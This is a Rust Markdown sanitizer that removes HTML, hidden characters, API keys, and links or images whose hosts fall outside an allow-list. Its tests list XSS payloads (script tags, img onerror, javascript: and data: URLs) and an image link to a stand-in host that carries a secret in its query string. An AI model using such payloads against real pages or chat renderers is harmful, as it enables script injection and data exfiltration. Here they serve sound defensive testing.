//! What is delivered: Markdown without HTML, and without links and images outside an allow-list.

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use regex::Regex;
use std::ops::Range;
use std::sync::LazyLock;
use url::Url;

/// Taking something out can make something new of what stood around it; so often it is looked at again.
const PASSES_MAX: usize = 8;
/// What stands where an address was.
const REMOVED: &str = "(link removed)";

/// What stands where a key was.
const REMOVED_KEY: &str = "(key removed)";

/// The text with tags removed, and with links, images and bare addresses outside `allowed_hosts` made
/// plain; a host allows its subdomains, images are never allowed. Code is kept as it is.
pub fn sanitize(markdown: &str, allowed_hosts: &[String]) -> String {
    let mut text: String = markdown.chars().filter(|c| !is_hidden(*c)).collect();
    for _ in 0..PASSES_MAX {
        let next = pass(&text, allowed_hosts);
        if next == text {
            return text;
        }
        text = next;
    }
    // Whoever nests this deep is not answering a customer.
    text.chars().filter(|c| !matches!(c, '<' | '>' | '[' | ']' | '!' | ':' | '`' | '~')).collect()
}

/// Control, direction and tag characters, which hide text from people but not from programs.
fn is_hidden(c: char) -> bool {
    let control = c.is_control() && !matches!(c, '\n' | '\t');
    control
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}' | '\u{180e}')
}

/// One change of the text: these bytes become that text.
struct Edit {
    range: Range<usize>,
    text: String,
}

#[expect(
    clippy::wildcard_enum_match_arm,
    reason = "every other event is plain text, whatever the parser learns to tell"
)]
fn pass(text: &str, allowed: &[String]) -> String {
    let parser = Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let definitions: Vec<Range<usize>> =
        parser.reference_definitions().iter().map(|(_, definition)| definition.span.clone()).collect();
    let mut edits: Vec<Edit> = definitions.into_iter().map(|range| Edit { range, text: String::new() }).collect();
    let mut code: Vec<Range<usize>> = Vec::new();
    let mut kept_links: Vec<Range<usize>> = Vec::new();
    let mut open: Vec<OpenLink> = Vec::new();
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Link { link_type, dest_url, .. }) => {
                open.push(OpenLink::new(range, link_type, is_allowed(&dest_url, allowed)));
            }
            Event::Start(Tag::Image { link_type, .. }) => open.push(OpenLink::new(range, link_type, false)),
            Event::End(TagEnd::Link | TagEnd::Image) => {
                let Some(mut link) = open.pop() else { continue };
                // The parser leaves the empty brackets of `[text][]` out of the link.
                if text.get(link.range.end..).is_some_and(|rest| rest.starts_with("[]")) {
                    link.range.end += 2;
                }
                if let Some(outer) = open.last_mut() {
                    outer.shown.push_str(&link.shown);
                }
                if link.allowed { kept_links.push(link.range) } else { edits.push(link.plain()) }
            }
            Event::Html(_) | Event::InlineHtml(_) => edits.push(Edit { range, text: String::new() }),
            Event::Code(_) => {
                if let Some(link) = open.last_mut() {
                    link.shown.push_str(text.get(range.clone()).unwrap_or_default());
                }
                code.push(range);
            }
            Event::Start(Tag::CodeBlock(_)) => code.push(range),
            Event::Text(ref shown) => {
                if let Some(link) = open.last_mut() {
                    link.shown.push_str(shown);
                }
            }
            _ => {}
        }
    }
    edits.extend(
        bare(text, allowed)
            .into_iter()
            .filter(|edit| !overlaps(&edit.range, &code) && !overlaps(&edit.range, &kept_links)),
    );
    applied(text, edits)
}

/// A link or image whose text is being read.
struct OpenLink {
    range: Range<usize>,
    allowed: bool,
    automatic: bool,
    shown: String,
}

impl OpenLink {
    fn new(range: Range<usize>, link_type: LinkType, allowed: bool) -> Self {
        let automatic = matches!(link_type, LinkType::Autolink | LinkType::Email);
        Self { range, allowed, automatic, shown: String::new() }
    }

    fn plain(self) -> Edit {
        let text = if self.automatic { REMOVED.to_owned() } else { self.shown };
        Edit { range: self.range, text }
    }
}

/// Addresses, schemes and tags that stand in plain text and that some viewer would make active.
fn bare(text: &str, allowed: &[String]) -> Vec<Edit> {
    let addresses = ADDRESS
        .find_iter(text)
        .filter(|found| !is_allowed(found.as_str().trim_end_matches(['.', ',', ')', '*', '_']), allowed));
    let addresses = addresses.map(|found| Edit { range: found.range(), text: REMOVED.to_owned() });
    let schemes = SCHEME.find_iter(text).map(|found| Edit { range: found.range(), text: String::new() });
    let tags = TAG.find_iter(text).map(|found| Edit { range: found.range(), text: String::new() });
    // A tag that is never closed is closed by what a viewer puts behind it.
    let opened =
        OPENED.find_iter(text).map(|found| Edit { range: found.start()..found.start() + 1, text: "< ".to_owned() });
    let keys = KEY.find_iter(text).map(|found| Edit { range: found.range(), text: REMOVED_KEY.to_owned() });
    addresses.chain(schemes).chain(tags).chain(opened).chain(keys).collect()
}

fn overlaps(range: &Range<usize>, others: &[Range<usize>]) -> bool {
    others.iter().any(|other| range.start < other.end && other.start < range.end)
}

fn is_allowed(address: &str, allowed: &[String]) -> bool {
    let address = if address.starts_with("www.") { format!("https://{address}") } else { address.to_owned() };
    let Ok(url) = Url::parse(&address) else { return false };
    let plain = matches!(url.scheme(), "https" | "http") && url.username().is_empty() && url.password().is_none();
    let host = url.host_str().unwrap_or_default().to_lowercase();
    let known = allowed
        .iter()
        .map(|known| known.to_lowercase())
        .any(|known| !known.is_empty() && (host == known || host.ends_with(&format!(".{known}"))));
    plain && known
}

/// The text with the edits made; of edits that overlap the one that begins first, and is longest, counts.
fn applied(text: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|edit| (edit.range.start, std::cmp::Reverse(edit.range.end)));
    let mut result = String::with_capacity(text.len());
    let mut at = 0;
    for edit in edits {
        if edit.range.start >= at {
            result.push_str(text.get(at..edit.range.start).unwrap_or_default());
            result.push_str(&edit.text);
            at = edit.range.end;
        }
    }
    result.push_str(text.get(at..).unwrap_or_default());
    result
}

#[expect(clippy::expect_used, reason = "the patterns are constants and every test compiles them")]
fn compiled(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is valid")
}

static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r#"(?i)(?:\b[a-z][a-z0-9+.-]{1,20}://|\bwww\.)[^\s<>"'`\[\]{}|\\^]+|(?:^|[\s(])//[a-z0-9][^\s<>"'`]*\.[^\s<>"'`]+"#,
    )
});
/// Keys of well-known services: one that stands in a page or a prompt is never repeated.
static KEY: LazyLock<Regex> = LazyLock::new(|| {
    compiled(
        r"\b(?:sk-[A-Za-z0-9_-]{10,}|AKIA[0-9A-Z]{12,}|gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{16,}|xox[abprs]-[A-Za-z0-9-]{10,}|AIza[A-Za-z0-9_-]{20,}|fd_live_[A-Za-z0-9]{8,}|eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]*)",
    )
});
static SCHEME: LazyLock<Regex> =
    LazyLock::new(|| compiled(r#"(?i)(?:java|vb|live)script\s*:|\bdata\s*:\s*[a-z]+/[a-z0-9.+-]+[;,][^\s)"'<>]*"#));
static TAG: LazyLock<Regex> = LazyLock::new(|| compiled(r"(?s)<[/!?]?[A-Za-z][^<>]*>|<!--.*?-->"));
static OPENED: LazyLock<Regex> = LazyLock::new(|| compiled(r"<[A-Za-z/!?]"));

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn clean(text: &str) -> String {
        sanitize(text, &["example.com".to_owned()])
    }

    #[test]
    fn attacks_become_plain_text() {
        for (attack, expected) in [
            ("[click](https://evil.test/?q=1)", "click"),
            ("![x](https://evil.test/p.png?c=secret)", "x"),
            ("[![x](https://evil.test/p.png)](https://evil.test)", "x"),
            ("![x](https://example.com/p.png)", "x"),
            ("[x][1]\n\n[1]: https://evil.test", "x\n\n"),
            ("[x]\n\n[x]: https://evil.test", "x\n\n"),
            ("[x][]\n\n[x]: <https://evil.test> \"t\"", "x\n\n"),
            ("![a][b]\n\n[b]: data:image/png;base64,AAAA", "a\n\n"),
            ("<https://evil.test>", "(link removed)"),
            ("<a@evil.test>", "(link removed)"),
            ("see https://evil.test/a?b=c now", "see (link removed) now"),
            ("see www.evil.test now", "see (link removed) now"),
            ("HTTPS://EVIL.TEST", "(link removed)"),
            ("ftp://evil.test/x", "(link removed)"),
            ("https://example.com@evil.test/", "(link removed)"),
            ("https://example.com.evil.test/", "(link removed)"),
            ("https://evilexample.com/", "(link removed)"),
            ("[x](javascript:alert(1))", "x"),
            ("[x](JaVaScRiPt:alert(1))", "x"),
            ("[x](vbscript:x)", "x"),
            ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
            ("[x](//evil.test)", "x"),
            ("[x](/relative)", "x"),
            ("the key is sk-EXAMPLE-9F2D11 now", "the key is (key removed) now"),
            ("javascript:alert(1)", "alert(1)"),
            ("data:text/html,<b>x</b>", "x"),
            ("<script>alert(1)</script>", ""),
            ("a <b>bold</b> c", "a bold c"),
            ("<img src=x onerror=alert(1)>", ""),
            ("x <img src=x onerror=alert(1)> y", "x  y"),
            ("<a href=\"https://evil.test\">x</a>", "x"),
            ("<iframe src=https://evil.test></iframe>", ""),
            ("x <!-- hidden --> y", "x  y"),
            ("<scr<script>ipt>alert(1)</scr</script>ipt>", "< script>alert(1)< /script>"),
            ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
            ("<svg/onload=alert(1)>", ""),
            ("[a](<https://evil.test/ b>)", "a"),
            ("\u{e0068}i\u{200b}!", "i!"),
            ("[x](https://evil.test \"<img src=x>\")", "x"),
            ("| a |\n|---|\n| [x](https://evil.test) |", "| a |\n|---|\n| x |"),
            ("- [x](https://evil.test)\n- y", "- x\n- y"),
        ] {
            assert_eq!(clean(attack).trim_end(), expected.trim_end(), "{attack}");
        }
    }

    #[test]
    fn what_is_allowed_and_plain_stays() {
        for text in [
            "See [the guide](https://example.com/a?b=c).",
            "See https://docs.example.com/x.",
            "<https://example.com>",
            "Refunds take 14 days. [1] Cards are fine. [2]",
            "1. Open **Billing**\n2. Click _Cancel_\n\n> quoted",
            "Set `OPENAI_API_KEY=sk-EXAMPLE-9F2D11` as shown, a task-oriented step.",
            "Use `<script src=\"https://cdn.test/x.js\">` in the head.",
            "```html\n<img src=\"https://cdn.test/x\">\n```",
            "a < b and b > c, 5<6",
            "Ratio 3:1 at 10:30; note: fine",
            "| Plan | Price |\n|---|---|\n| A | 9 |",
            "The data: it is here",
            "返金は14日です。",
        ] {
            assert_eq!(clean(text), text);
        }
    }

    proptest! {
        #[test]
        fn nothing_active_is_left_whatever_comes(text in "([<>!\\[\\]()`\"/ :a-c.-]|javascript:|https://evil\\.test|<img src=x>|\\PC){0,60}") {
            let cleaned = clean(&text);
            prop_assert_eq!(&clean(&cleaned), &cleaned);
            for event in Parser::new(&cleaned) {
                let active = matches!(event, Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Link { .. } | Tag::Image { .. }));
                prop_assert!(!active, "{}", cleaned);
            }
        }
    }
}
